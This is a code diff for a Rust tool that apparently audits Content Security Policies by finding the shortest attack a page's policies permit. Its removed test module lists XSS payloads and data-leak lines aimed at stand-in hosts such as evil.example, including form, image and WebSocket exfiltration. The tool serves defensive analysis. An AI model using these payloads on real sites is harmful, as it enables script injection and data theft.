@@ -6,10 +6,10 @@ use super::row::Row;
 use super::step::Attempt;
 use super::witness::{Witness, witnesses};
 use crate::csp::attack::{NONCE, PAGE};
-use crate::csp::{Directive, Disposition, SourceExpression};
-use crate::fetch::{Policies, Ruling};
+use crate::csp::{Directive, Disposition, Redirect, SourceExpression};
+use crate::fetch::{Policies, Reason, Ruling};
 use crate::promise::attacks::ATTACKS;
-use crate::span::Span;
+use crate::span::{Span, Spanned};
 use crate::url::{Origin, Url};
 
 /// All attacks that the policies of a page let through: of each row of the table one for each combination of sources that lets
@@ -53,7 +53,7 @@ pub fn shortest<'p>(policies: &'p Policies<'_>, harm: Harm) -> Option<Attack<'p>
 pub struct Search<'s, 'p> {
     policies: &'p Policies<'s>,
     /// Where the page may send data. `None`: to its own origin.
-    destinations: Option<&'s [SourceExpression]>,
+    destinations: Option<&'s [Spanned<SourceExpression>]>,
     witnesses: Vec<Witness>,
     nonces: Vec<&'p str>,
     is_upgraded: bool,
@@ -76,7 +76,7 @@ impl<'s, 'p> Search<'s, 'p> {
 
     /// Data may be sent to these sources.
     #[must_use]
-    pub fn allowing(self, destinations: &'s [SourceExpression]) -> Self {
+    pub fn allowing(self, destinations: &'s [Spanned<SourceExpression>]) -> Self {
         Search { destinations: Some(destinations), ..self }
     }
 
@@ -84,11 +84,26 @@ impl<'s, 'p> Search<'s, 'p> {
     pub fn shortest(&self, harm: Harm) -> Option<Attack<'p>> {
         let rows = ATTACKS.iter().filter(|row| row.harms.contains(&harm));
         let attacks = rows.flat_map(|row| self.of(row)).filter(|attack| attack.harms.contains(&harm));
-        attacks.min_by_key(|attack| attack.quoted().chars().count())
+        // A WebSocket is shorter, and stranger.
+        attacks.min_by_key(|attack| (attack.place == Some(Place::Socket), attack.quoted().chars().count()))
+    }
+
+    /// Whether some attack does this.
+    pub fn finds(&self, harm: Harm) -> bool {
+        let mut rows = ATTACKS.iter().filter(|row| row.harms.contains(&harm));
+        rows.any(|row| {
+            self.attempts(row)
+                .into_iter()
+                .any(|attempt| self.attempt(row, attempt).is_some_and(|attack| attack.harms.contains(&harm)))
+        })
     }
 
     /// The attacks of a row, for each URL and each nonce that works.
     fn of(&self, row: &'static Row) -> Vec<Attack<'p>> {
+        self.attempts(row).into_iter().filter_map(|attempt| self.attempt(row, attempt)).collect()
+    }
+
+    fn attempts(&self, row: &Row) -> Vec<Attempt<'_>> {
         let nonces: Vec<Option<&str>> = match row.template.text.contains(NONCE) {
             true => self.nonces.iter().copied().map(Some).collect(),
             false => vec![None],
@@ -97,11 +112,8 @@ impl<'s, 'p> Search<'s, 'p> {
             [] => vec![None],
             places => self.witnesses.iter().filter(|witness| places.contains(&witness.place)).map(Some).collect(),
         };
-        let attempts = witnesses.into_iter().flat_map(|witness| {
-            let attempt = move |nonce: &Option<&'p str>| Attempt { witness, nonce: *nonce };
-            nonces.iter().map(attempt).collect::<Vec<_>>()
-        });
-        attempts.filter_map(|attempt| self.attempt(row, attempt)).collect()
+        let each = |witness| nonces.iter().map(move |nonce| Attempt { witness, nonce: *nonce });
+        witnesses.into_iter().flat_map(each).collect()
     }
 
     fn attempt(&self, row: &'static Row, attempt: Attempt<'_>) -> Option<Attack<'p>> {
@@ -114,14 +126,15 @@ impl<'s, 'p> Search<'s, 'p> {
             }
             rulings.extend(allowing);
         }
-        let harms = row.harms.iter().copied().filter(|harm| self.does(*harm, attempt.witness)).collect();
+        let harms = row.harms.iter().copied().filter(|harm| self.does(*harm, attempt.witness, &rulings)).collect();
         let (text, origin) = self.text(row, attempt);
-        Some(Attack { row, text, origin, harms, rulings, missing })
+        let place = attempt.witness.map(|witness| witness.place);
+        Some(Attack { row, text, place, origin, harms, rulings, missing })
     }
 
     /// Whether an attack with this URL does it.
-    fn does(&self, harm: Harm, witness: Option<&Witness>) -> bool {
-        let Some(Witness { url, place, .. }) = witness else { return harm != Harm::Mixed };
+    fn does(&self, harm: Harm, witness: Option<&Witness>, rulings: &[Ruling<'p>]) -> bool {
+        let Some(Witness { url, .. }) = witness else { return harm != Harm::Mixed };
         let page = self.policies.origin();
         let is_plain = page.is_https() && matches!(url.scheme(), "http" | "ws") && !is_loopback(url);
         let is_sent = matches!(url.scheme(), "http" | "https" | "ws" | "wss");
@@ -129,19 +142,29 @@ impl<'s, 'p> Search<'s, 'p> {
             Harm::Mixed => is_plain && !self.is_upgraded,
             // Browsers upgrade or block plain http, so that nothing else comes of it.
             _ if is_plain => false,
-            Harm::Leak => is_sent && !self.may_receive(url),
-            Harm::Base => url.host().is_some() && *place != Place::Site,
+            Harm::Leak => is_sent && !self.may_receive(url, rulings),
+            Harm::Base => url.host().is_some() && !self.is_own(url),
             _ => true,
         }
     }
 
-    /// Whether the page may send data to this URL.
-    fn may_receive(&self, url: &Url) -> bool {
+    /// Whether the URL leads to the site itself: the origin of the page, or that of another scheme with the same host.
+    fn is_own(&self, url: &Url) -> bool {
         let page = self.policies.origin();
-        match self.destinations {
-            Some(sources) => sources.iter().any(|source| source.matches(url, page, crate::csp::Redirect::None)),
-            None => url.host() == Some(page.host()) && url.port() == page.port(),
-        }
+        url.host() == Some(page.host()) && url.port() == page.port()
+    }
+
+    /// Whether the page may send data to this URL, or by these means: `nonce` and `strict_dynamic` in the list.
+    fn may_receive(&self, url: &Url, rulings: &[Ruling<'p>]) -> bool {
+        let page = self.policies.origin();
+        let Some(sources) = self.destinations else {
+            return self.is_own(url);
+        };
+        let is_listed = |ruling: &Ruling<'_>| match ruling.reason {
+            Reason::Nonce(source) | Reason::Keyword(source) => sources.iter().any(|other| other.node == source.node),
+            _ => false,
+        };
+        sources.iter().any(|source| source.node.matches(url, page, Redirect::None)) || rulings.iter().any(is_listed)
     }
 
     /// What the attacker writes, and the origin of the page that has it if that is another page.
@@ -177,178 +200,4 @@ fn is_loopback(url: &Url) -> bool {
 fn origin_of(url: &Url) -> String {
     let port = url.port().map_or_else(String::new, |port| format!(":{port}"));
     format!("{}://{}{port}", url.scheme(), url.host().unwrap_or_default())
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    const HASH: &str = "'sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI='";
-
-    /// The shortest attack under the policies in a text, each after a line break.
-    fn attack(policies: &str, harm: Harm) -> Option<String> {
-        let origin = Origin::parse("https://shop.example", Span::default()).expect("an origin");
-        let policies = policies.lines().fold(Policies::new(origin), |all, text| match text.strip_prefix("report ") {
-            Some(text) => all.report_only(text),
-            None => all.enforce(text),
-        });
-        shortest(&policies, harm).map(|attack| format!("{} {}", attack.name(), attack.quoted()))
-    }
-
-    #[test]
-    fn scripts() {
-        for (policies, expected) in [
-            ("", Some("event_handler `<svg onload=\"alert(1)\">`")),
-            ("report script-src 'none'", Some("event_handler `<svg onload=\"alert(1)\">`")),
-            ("sandbox", None),
-            ("sandbox allow-scripts", Some("event_handler `<svg onload=\"alert(1)\">`")),
-            ("script-src 'none'", None),
-            ("default-src 'none'", None),
-            (
-                "default-src 'none'; script-src-elem 'self'",
-                Some("script_of_site `<script src=\"https://shop.example/upload/\"></script>`"),
-            ),
-            ("script-src 'none'; script-src-attr 'unsafe-inline'", Some("event_handler `<svg onload=\"alert(1)\">`")),
-            ("script-src 'unsafe-inline'; script-src-attr 'none'", Some("inline_script `<script>alert(1)</script>`")),
-            ("script-src 'nonce-'; base-uri 'none'", None),
-            ("script-src https:", Some("script_of_attacker `<script src=\"https://evil.example/\"></script>`")),
-            (
-                "script-src https://cdn.jsdelivr.net; base-uri 'none'",
-                Some("script_of_listed_host `<script src=\"https://cdn.jsdelivr.net/npm/evil\"></script>`"),
-            ),
-            (
-                "script-src https://*.example.com/js/",
-                Some("script_of_listed_host `<script src=\"https://evil.example.com/js/\"></script>`"),
-            ),
-            ("script-src data:", Some("script_data `<script src=\"data:,alert(1)\"></script>`")),
-            ("script-src blob:", Some("script_blob `<script src=\"blob:https://shop.example/…\"></script>`")),
-            (
-                "script-src filesystem:",
-                Some("script_blob `<script src=\"filesystem:https://shop.example/…\"></script>`"),
-            ),
-            ("script-src 'nonce-abc'; base-uri 'none'", Some("static_nonce `<script nonce=\"abc\">alert(1)</script>`")),
-            (&format!("script-src {HASH}"), None),
-            (&format!("script-src 'unsafe-hashes' {HASH}"), Some("listed_handler `<svg onload=\"…\">`")),
-            (
-                &format!("script-src-elem 'unsafe-hashes' {HASH}; script-src-attr 'none'"),
-                Some("listed_javascript_url `<iframe src=\"javascript:…\"></iframe>`"),
-            ),
-            (
-                &format!(
-                    "script-src 'unsafe-hashes' {HASH}\nscript-src 'unsafe-hashes' 'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='"
-                ),
-                None,
-            ),
-            (
-                "script-src 'strict-dynamic'; base-uri 'none'",
-                Some(
-                    "modulepreload `<link rel=\"modulepreload\" href=\"https://evil.example/\"><script type=\"module\" src=\"https://evil.example/\"></script>`",
-                ),
-            ),
-            ("script-src 'strict-dynamic'\nscript-src 'none'", None),
-            ("script-src 'unsafe-inline'\nscript-src data:", None),
-            (
-                "script-src https://*.a.example:*\nscript-src https://*:8443",
-                Some("script_of_listed_host `<script src=\"https://evil.a.example:8443/\"></script>`"),
-            ),
-        ] {
-            assert_eq!(attack(policies, Harm::Script).as_deref(), expected, "{policies}");
-        }
-    }
-
-    #[test]
-    fn a_nonce_needs_a_base() {
-        // In a declaration the nonce of the response is no text: no header has it.
-        let origin = Origin::parse("https://shop.example", Span::default()).expect("an origin");
-        let with_base = |base: &str, script: Vec<SourceExpression>| {
-            let (mut csp, _) = crate::csp::Csp::parse(base, Disposition::Enforce);
-            csp.clauses.push(crate::csp::Clause {
-                directive: crate::span::Spanned::new(Directive::ScriptSrc, Span::default()),
-                value: crate::csp::ClauseValue::Sources(
-                    script.into_iter().map(|source| crate::span::Spanned::new(source, Span::default())).collect(),
-                ),
-            });
-            let policies = Policies::new(origin.clone()).with(csp, crate::fetch::PolicySource::Header);
-            shortest(&policies, Harm::Script).map(|attack| attack.quoted())
-        };
-        for (base, expected) in [
-            ("", Some("`<base href=\"https://evil.example/\">` above `<script nonce=\"…\" src=\"app.js\"></script>`")),
-            (
-                "base-uri 'self'",
-                Some(
-                    "`<base href=\"https://shop.example/upload/\">` above `<script nonce=\"…\" src=\"app.js\"></script>`",
-                ),
-            ),
-            (
-                "base-uri https://cdn.example",
-                Some("`<base href=\"https://cdn.example/\">` above `<script nonce=\"…\" src=\"app.js\"></script>`"),
-            ),
-            ("base-uri data:", None),
-            ("base-uri 'none'", None),
-        ] {
-            assert_eq!(with_base(base, vec![SourceExpression::Nonce]).as_deref(), expected, "{base}");
-        }
-    }
-
-    #[test]
-    fn other_harms() {
-        for (policies, harm, expected) in [
-            ("base-uri 'none'", Harm::Base, None),
-            ("base-uri 'self'", Harm::Base, None),
-            ("default-src 'none'", Harm::Base, Some("base `<base href=\"https://evil.example/\">`")),
-            ("base-uri 'self' cdn.example", Harm::Base, Some("base `<base href=\"https://cdn.example/\">`")),
-            ("object-src 'none'", Harm::Plugin, None),
-            ("object-src data:", Harm::Plugin, Some("embed `<embed src=\"data:image/gif,x\">`")),
-            ("object-src 'self'", Harm::Plugin, Some("embed `<embed src=\"https://shop.example/upload/\">`")),
-            ("frame-ancestors 'none'", Harm::Framed, None),
-            (
-                "frame-ancestors 'self'",
-                Harm::Framed,
-                Some(
-                    "framed_by_site `<iframe src=\"https://shop.example/\"></iframe>` in a page of `https://shop.example`",
-                ),
-            ),
-            (
-                "frame-ancestors *\nframe-ancestors https://*.partner.example",
-                Harm::Framed,
-                Some(
-                    "framed_by_listed `<iframe src=\"https://shop.example/\"></iframe>` in a page of `https://evil.partner.example`",
-                ),
-            ),
-            ("style-src 'none'", Harm::Style, None),
-            (
-                "style-src 'none'; style-src-attr 'unsafe-inline'",
-                Harm::Style,
-                Some("style_attribute `<p style=\"color:red\">x</p>`"),
-            ),
-            ("default-src 'none'; form-action 'none'; base-uri 'none'", Harm::Leak, None),
-            ("default-src 'self'; form-action 'self'; base-uri 'none'", Harm::Leak, None),
-            (
-                "default-src 'self'; form-action 'self'; img-src img.example",
-                Harm::Leak,
-                Some("image `<img src=\"https://img.example/?data\">`"),
-            ),
-            (
-                "default-src 'self'",
-                Harm::Mixed,
-                Some("form `<form action=\"http://evil.example/\"><button name=\"data\">x</button></form>`"),
-            ),
-            ("default-src 'self'; form-action 'self' http://localhost", Harm::Mixed, None),
-            (
-                "default-src 'self'; form-action 'self'; img-src http://img.example",
-                Harm::Mixed,
-                Some("image `<img src=\"http://img.example/?data\">`"),
-            ),
-            ("default-src 'self'; form-action 'self'; img-src img.example", Harm::Mixed, None),
-            ("default-src *; upgrade-insecure-requests", Harm::Mixed, None),
-            ("default-src *; block-all-mixed-content", Harm::Mixed, None),
-            (
-                "default-src 'self'; form-action 'self'; connect-src ws:",
-                Harm::Mixed,
-                Some("websocket `new WebSocket(\"ws://evil.example/?data\")` in a script of the page"),
-            ),
-        ] {
-            assert_eq!(attack(policies, harm).as_deref(), expected, "{harm:?}: {policies}");
-        }
-    }
 }
